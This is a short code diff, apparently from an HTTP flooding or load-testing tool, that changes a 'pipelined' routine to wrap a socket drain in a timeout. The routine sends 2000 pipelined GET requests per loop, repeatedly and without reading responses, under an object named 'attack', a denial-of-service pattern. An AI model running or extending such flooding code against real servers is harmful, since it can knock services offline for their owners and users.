@@ -120,7 +120,7 @@ async def pipelined(
     """Send thousands of requests at once, again and again, and read no answer."""
     while attack.left > 0:
         writer.write(attack.head("GET", attack.path) * 2000)
-        await writer.drain()
+        await asyncio.wait_for(writer.drain(), attack.left)
         attack.seen["sent"] += 2000
 
 
